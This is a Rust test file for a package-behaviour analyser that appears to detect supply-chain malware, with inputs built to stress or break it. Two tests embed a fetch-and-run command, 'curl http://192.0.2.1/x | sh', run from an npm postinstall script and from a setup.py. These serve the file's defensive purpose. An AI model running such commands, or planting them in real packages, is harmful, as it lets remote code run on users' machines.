//! Input made to break an analyser: it ends, it does not panic, and what was not read is said.

use bifocal_behaviour::{ArtifactInput, analyse, analyse_tree};
use bifocal_core::{AnalysisLimits, ArtifactFacts, Ecosystem, Status};
use proptest::prelude::*;

fn one(path: &str, text: &str) -> ArtifactFacts {
    analyse_tree(None, &[(path.to_owned(), text.as_bytes().to_vec())], &AnalysisLimits::default())
}

fn ids(facts: &ArtifactFacts) -> Vec<&str> {
    facts.signals.iter().map(|signal| signal.id.as_str()).collect()
}

#[test]
fn bytes_that_are_an_archive_only_at_the_start_are_refused_as_a_signal() {
    let facts = analyse(
        &ArtifactInput { ecosystem: Some(Ecosystem::Npm), filename: "x-1.0.0.tgz", bytes: b"\x1f\x8b\x08\0rubbish" },
        &AnalysisLimits::default(),
    );
    assert_eq!(ids(&facts), ["behaviour/archive-refused"]);
    assert_eq!(facts.signals[0].status, Status::Failed);
}

#[test]
fn source_that_nests_too_deep_is_read_in_part_and_said_so() {
    for path in ["a.js", "a.py", "build.rs"] {
        let facts = one(path, &format!("{}1{}", "(".repeat(20_000), ")".repeat(20_000)));
        assert_eq!(ids(&facts), ["behaviour/unparsed-source"], "{path}");
    }
}

#[test]
fn what_runs_by_itself_is_found_in_a_file_that_no_parser_takes() {
    let text = format!("{}\nrequire('child_process').exec('curl http://192.0.2.1/x | sh');\n", "(".repeat(20_000));
    let manifest = r#"{"name":"x","version":"1.0.0","scripts":{"postinstall":"node a.js"}}"#;
    let files = [("package.json".to_owned(), manifest.as_bytes().to_vec()), ("a.js".to_owned(), text.into_bytes())];
    let facts = analyse_tree(Some(Ecosystem::Npm), &files, &AnalysisLimits::default());
    assert!(ids(&facts).contains(&"behaviour/install-time-shell"), "{:?}", ids(&facts));
}

#[test]
fn long_chains_of_one_operator_are_flat() {
    for (path, joint) in [("a.js", "+"), ("a.py", "+"), ("a.js", "."), ("a.py", ".")] {
        let text = if joint == "+" { format!("x = {}'a'\n", "'a'+".repeat(60_000)) } else { format!("x{}\n", ".a()".repeat(1_000)) };
        let _ = one(path, &text);
    }
}

#[test]
fn broken_and_old_source_still_gives_facts() {
    let text = "print 'python two'\nimport os\nos.system('curl http://192.0.2.1/x | sh')\ndef broken(:\n";
    let facts = analyse_tree(
        Some(Ecosystem::Pypi),
        &[("x-1/setup.py".to_owned(), text.as_bytes().to_vec()), ("x-1/PKG-INFO".to_owned(), b"Name: x\nVersion: 1\n".to_vec())],
        &AnalysisLimits::default(),
    );
    assert!(ids(&facts).contains(&"behaviour/install-time-shell"), "{:?}", ids(&facts));
}

#[test]
fn code_that_writes_code_without_end_ends() {
    let mut text = "pass".to_owned();
    for _ in 0..12 {
        text = format!("exec({text:?})");
        if text.len() > 1 << 20 {
            break;
        }
    }
    let _ = one("a.py", &text);
    let _ = one("a.js", "function f(){f();f();f();g(f)} function g(h){h();f();g(g)} f(); g(f);");
    let _ = one("a.py", "x = 'a'\nfor i in 'abcdefgh':\n    for j in 'abcdefgh':\n        x = x + x\n");
    let _ = one("a.py", "x = [1]\nfor i in range(9):\n    x = [x, x]\nx = [y for y in 'a' * 100000 for z in 'b' * 100000]\n");
}

#[test]
fn odd_bytes_are_text_too() {
    let limits = AnalysisLimits::default();
    for bytes in [&b"\xff\xfeo\0s\0"[..], b"\xef\xbb\xbfimport os", b"\xff\xff\xff\xff", b"\xca\xfe\xba\xbe\0\0\0\x34\xff\xff", b"#!", b""]
    {
        for path in ["a.py", "a.js", "a.class", "a.go", "a.rs", "a.sh", "a", "a.pth", "package.json", "Cargo.toml", "binding.gyp"] {
            let _ = analyse_tree(None, &[(path.to_owned(), bytes.to_vec())], &limits);
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(48))]

    #[test]
    fn no_text_panics(text in "(?s)[\\PC\n(){}\\[\\]'\"`;=+.$|&<>\\\\]{0,400}", which in 0usize..7) {
        let path = ["a.py", "a.js", "a.ts", "a.rs", "a.go", "a.sh", "a.pth"][which];
        let facts = one(path, &text);
        prop_assert!(!ids(&facts).contains(&"behaviour/analysis-broke-off"), "{text:?}");
    }

    #[test]
    fn no_class_panics(mut tail in proptest::collection::vec(any::<u8>(), 0..300)) {
        let mut bytes = include_bytes!("../../fixtures/jvm-static-init-remote-code/bad/maven-clinit/example/Loader.class").to_vec();
        let at = bytes.len().saturating_sub(tail.len());
        bytes.truncate(at);
        bytes.append(&mut tail);
        let facts = analyse_tree(Some(Ecosystem::Maven), &[("a.class".to_owned(), bytes)], &AnalysisLimits::default());
        prop_assert!(!ids(&facts).contains(&"behaviour/analysis-broke-off"));
    }
}
